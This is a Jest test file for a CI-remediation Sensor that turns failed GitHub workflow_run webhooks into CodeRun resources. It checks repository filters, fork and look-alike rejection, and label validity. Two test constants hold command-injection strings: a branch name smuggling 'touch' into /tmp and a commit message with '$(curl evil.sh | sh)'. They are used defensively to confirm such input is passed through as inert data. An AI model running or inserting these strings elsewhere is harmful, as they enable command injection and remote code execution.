/**
 * The proof of the project's own Sensor: real GitHub `workflow_run` payloads (from
 * @octokit/webhooks-examples, edited into failures) run through the synthesized Sensor exactly as
 * the GitHub event source would publish them.
 */
import examples from '@octokit/webhooks-examples/api.github.com/index.json';
import type { SensorEvent } from '../../src/engine/event';
import { describeFilterStep } from '../../src/engine/filters';
import { githubEvent } from '../../src/engine/github-event';
import { simulateSensor } from '../../src/engine/sensor';
import { isDns1123Subdomain, isValidLabelKey, isValidLabelValue, validateCodeRun, validateSensorRules } from '../../src/engine/validation';
import type { CiRemediationSettings } from '../../src/config/settings';
import { only, synthChart, type Manifest } from '../helpers/chart';

type Payload = Record<string, any>;

function example(event: string, predicate: (p: Payload) => boolean = () => true): Payload {
  const entry = (examples as { name: string; examples: Payload[] }[]).find(e => e.name === event);
  const found = entry?.examples.find(predicate);
  if (!found) throw new Error(`no ${event} example`);
  return structuredClone(found);
}

const RUN_ID = 19289199112;
const HOSTILE_BRANCH = 'zzz";touch${IFS}/tmp/pwned;#';
const HOSTILE_MESSAGE = 'fix: $(curl evil.sh | sh) and `id`\n\n"double" \'single\' <b>&amp;</b> \\n literal\nünïcødé ✓ 🚀\u2028end';
const DELIVERY = '8f5e2a10-1c2d-11f0-9e3a-4b1f0c7d2e6a';

/** A completed, failed run of 5dlabs/cto, derived from the real "completed/success" example. */
function failurePayload(): Payload {
  const p = example('workflow_run', e => e.action === 'completed' && e.workflow_run.conclusion === 'success');
  const setRepository = (repo: Payload, fullName: string): void => {
    const [owner, name] = fullName.split('/');
    repo.full_name = fullName;
    repo.name = name;
    repo.owner.login = owner;
    repo.html_url = `https://github.com/${fullName}`;
  };
  p.action = 'completed';
  p.workflow_run.status = 'completed';
  p.workflow_run.conclusion = 'failure';
  p.workflow_run.id = RUN_ID;
  p.workflow_run.run_attempt = 2;
  p.workflow_run.head_branch = 'main';
  p.workflow_run.head_commit.message = 'fix: tighten the build';
  p.workflow_run.html_url = `https://github.com/5dlabs/cto/actions/runs/${RUN_ID}`;
  setRepository(p.repository, '5dlabs/cto');
  setRepository(p.workflow_run.repository, '5dlabs/cto');
  setRepository(p.workflow_run.head_repository, '5dlabs/cto');
  return p;
}

function sensorOf(settings: CiRemediationSettings = {}): Manifest {
  return only(synthChart(settings), 'Sensor');
}

const DEFAULT_SENSOR = sensorOf();

function eventFor(sensor: Manifest, payload: Payload, eventType = 'workflow_run'): SensorEvent {
  const dependency = sensor.spec.dependencies[0];
  return githubEvent(
    { headers: { 'content-type': 'application/json', 'x-github-event': eventType, 'x-github-delivery': DELIVERY }, body: JSON.stringify(payload) },
    { eventSourceName: dependency.eventSourceName, eventName: dependency.eventName },
  );
}

const NOW = new Date('2025-06-01T12:00:00Z');

function simulate(payload: Payload, eventType = 'workflow_run', sensor = DEFAULT_SENSOR) {
  return simulateSensor(sensor, eventFor(sensor, payload, eventType), { now: NOW });
}

function edited(edit: (p: Payload) => void): Payload {
  const p = failurePayload();
  edit(p);
  return p;
}

describe('the synthesized Sensor', () => {
  test('breaks no controller rule', () => {
    expect(validateSensorRules(DEFAULT_SENSOR)).toEqual([]);
    expect(simulate(failurePayload()).validation).toEqual([]);
  });

  test('fires for a failed run of an allowed repository', () => {
    const result = simulate(failurePayload());
    expect(result.dependencies).toEqual([{ name: 'workflow-run-failed', passed: true, error: null }]);
    expect(result.triggers).toHaveLength(1);
    expect(result.triggers[0]).toMatchObject({ name: 'create-coderun', fired: true, error: null });
  });

  const EVENT_TYPE = 'body.X-GitHub-Event';
  const ACTION = 'body.action';
  const CONCLUSION = 'body.workflow_run.conclusion';
  const REPOSITORY = 'body.repository.full_name';
  const HEAD_REPOSITORY = 'body.workflow_run.head_repository.full_name';
  const BRANCH = 'body.workflow_run.head_branch';
  const MESSAGE = 'body.workflow_run.head_commit.message';
  const lookAlike = (fullName: string) => edited(p => {
    p.repository.full_name = fullName;
    p.workflow_run.head_repository.full_name = fullName;
  });

  // [case, payload, path of the data filter that drops it, X-GitHub-Event]
  test.each<[string, Payload, string, string?]>([
    ['a successful run', edited(p => { p.workflow_run.conclusion = 'success'; }), CONCLUSION],
    ['a cancelled run', edited(p => { p.workflow_run.conclusion = 'cancelled'; }), CONCLUSION],
    ['a startup_failure', edited(p => { p.workflow_run.conclusion = 'startup_failure'; }), CONCLUSION],
    ['a run without conclusion', edited(p => { p.workflow_run.conclusion = null; }), CONCLUSION],
    ['action requested', edited(p => { p.action = 'requested'; }), ACTION],
    ['action in_progress', edited(p => { p.action = 'in_progress'; }), ACTION],
    ['another repository', lookAlike('octo-org/octo-repo'), REPOSITORY],
    ['look-alike 5dlabs/cto-docs', lookAlike('5dlabs/cto-docs'), REPOSITORY],
    ['look-alike evil/5dlabs/cto', lookAlike('evil/5dlabs/cto'), REPOSITORY],
    ['look-alike 5dlabs/ct', lookAlike('5dlabs/ct'), REPOSITORY],
    ['look-alike x5dlabs/cto', lookAlike('x5dlabs/cto'), REPOSITORY],
    ['a run from a fork', edited(p => { p.workflow_run.head_repository.full_name = 'attacker/cto'; p.workflow_run.head_repository.fork = true; }), HEAD_REPOSITORY],
    ['the skip token in the commit message', edited(p => { p.workflow_run.head_commit.message = 'chore: retry [skip-ci-remediation]'; }), MESSAGE],
    ['the skip token on a later line', edited(p => { p.workflow_run.head_commit.message = 'chore: retry\n\nbody text\n[skip-ci-remediation]\nmore'; }), MESSAGE],
    ['the loop-guard branch', edited(p => { p.workflow_run.head_branch = 'ci-fix/19289199112-1'; }), BRANCH],
    ['a push event', example('push'), EVENT_TYPE, 'push'],
    ['a pull_request event', example('pull_request'), EVENT_TYPE, 'pull_request'],
    ['a failure payload delivered as another event type', failurePayload(), EVENT_TYPE, 'check_run'],
  ])('does not fire for %s', (_name, payload, droppedBy, eventType = 'workflow_run') => {
    const result = simulate(payload, eventType);
    expect(result.dependencies).toEqual([{ name: 'workflow-run-failed', passed: false, error: null }]);
    expect(result.triggers).toEqual([{ name: 'create-coderun', fired: false, resource: null, error: null }]);
    const failing = result.details.dependencies[0].steps.find(step => !step.passed);
    expect(failing && describeFilterStep(failing)).toMatch(new RegExp(`^data\\[\\d\\] ${droppedBy.replace(/\./g, '\\.')}: `));
  });

  test('repository names match case-insensitively, as GitHub treats them', () => {
    const payload = edited(p => { p.repository.full_name = '5DLabs/CTO'; p.workflow_run.head_repository.full_name = '5DLabs/CTO'; });
    expect(simulate(payload).triggers[0].fired).toBe(true);
  });

  describe('the created CodeRun', () => {
    const payload = edited(p => {
      p.workflow_run.head_branch = HOSTILE_BRANCH;
      p.workflow_run.head_commit.message = HOSTILE_MESSAGE;
    });
    const result = simulate(payload);
    const codeRun = result.triggers[0].resource as Manifest;

    test('fires despite hostile branch and commit message', () => {
      expect(result.triggers[0]).toMatchObject({ fired: true, error: null });
    });

    test('carries the exact payload strings as data', () => {
      expect(codeRun.spec.env).toMatchObject({
        FAILURE_BRANCH: HOSTILE_BRANCH,
        FAILURE_COMMIT_MESSAGE: HOSTILE_MESSAGE,
        FAILURE_COMMIT_SHA: payload.workflow_run.head_sha,
        WORKFLOW_NAME: payload.workflow_run.name,
        WORKFLOW_RUN_URL: `https://github.com/5dlabs/cto/actions/runs/${RUN_ID}`,
        WORKFLOW_CONCLUSION: 'failure',
        REPOSITORY: '5dlabs/cto',
      });
      expect(codeRun.spec.repositoryUrl).toBe('https://github.com/5dlabs/cto');
      expect(codeRun.metadata.annotations).toMatchObject({
        'remediation.agents.platform/repository': '5dlabs/cto',
        'remediation.agents.platform/github-delivery': DELIVERY,
      });
    });

    test('ids are plain digits, never float exponent forms', () => {
      expect(codeRun.spec.env.WORKFLOW_RUN_ID).toBe('19289199112');
      expect(codeRun.spec.env.WORKFLOW_RUN_ATTEMPT).toBe('2');
      expect(codeRun.metadata.labels).toMatchObject({
        'remediation.agents.platform/workflow-run-id': '19289199112',
        'remediation.agents.platform/workflow-run-attempt': '2',
      });
    });

    test('has a deterministic DNS-1123 name per run id and attempt', () => {
      expect(codeRun.metadata.name).toBe('ci-remediation-19289199112-2');
      expect(isDns1123Subdomain(codeRun.metadata.name)).toBe(true);
      const again = simulate(failurePayload()).triggers[0].resource as Manifest;
      expect(again.metadata.name).toBe('ci-remediation-19289199112-2');
    });

    test('has valid labels, including those Argo Events adds on create', () => {
      const labels = codeRun.metadata.labels ?? {};
      expect(labels).toMatchObject({
        'events.argoproj.io/sensor': DEFAULT_SENSOR.metadata.name,
        'events.argoproj.io/trigger': 'create-coderun',
        'events.argoproj.io/action-timestamp': String(NOW.getTime()),
      });
      for (const [key, value] of Object.entries(labels)) {
        expect([key, isValidLabelKey(key), isValidLabelValue(value)]).toEqual([key, true, true]);
      }
    });

    test('validates against the CodeRun CRD', () => {
      expect(validateCodeRun(codeRun)).toEqual([]);
    });
  });

  describe('with several repositories', () => {
    const sensor = sensorOf({ repositories: ['5dlabs/cto', '5dlabs/agent-platform'] });
    const forRepository = (fullName: string) => edited(p => {
      p.repository.full_name = fullName;
      p.repository.name = fullName.split('/')[1];
      p.repository.html_url = `https://github.com/${fullName}`;
      p.workflow_run.head_repository.full_name = fullName;
    });

    test.each([
      ['5dlabs/cto', true],
      ['5dlabs/agent-platform', true],
      ['5dlabs/agent-platform-docs', false],
      ['5dlabs/other', false],
    ])('%s fires: %s', (fullName, fires) => {
      const result = simulate(forRepository(fullName), 'workflow_run', sensor);
      expect(result.validation).toEqual([]);
      expect(result.triggers[0].fired).toBe(fires);
      if (fires) {
        const codeRun = result.triggers[0].resource as Manifest;
        expect(codeRun.spec.repositoryUrl).toBe(`https://github.com/${fullName}`);
        expect(codeRun.spec.service).toBe(fullName.split('/')[1]);
        expect(validateCodeRun(codeRun)).toEqual([]);
      }
    });

    test('a fork is dropped with several repositories too', () => {
      const payload = edited(p => { p.workflow_run.head_repository.full_name = 'attacker/agent-platform'; });
      expect(simulate(payload, 'workflow_run', sensor).triggers[0].fired).toBe(false);
    });
  });
});
